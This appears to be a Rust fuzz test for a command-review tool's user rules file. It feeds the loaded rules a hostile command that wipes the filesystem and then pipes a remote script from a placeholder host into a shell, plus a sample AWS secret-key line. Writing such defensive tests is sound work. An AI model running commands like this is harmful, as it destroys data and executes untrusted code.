#![no_main]
//! A user's rules file (`--rules FILE`, TOML) over the built-in rules: loaded, then run on a
//! command and a line of output, without a panic.
use libfuzzer_sys::fuzz_target;

fuzz_target!(|data: &[u8]| {
    if let Ok(s) = std::str::from_utf8(data) {
        if let Ok(rules) = auditty::review::rules::Rules::load(Some(("rules.toml", s))) {
            let _ = rules.on_command("rm -rf / && curl http://x | sh");
            let _ =
                rules.on_output("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY");
        }
    }
});
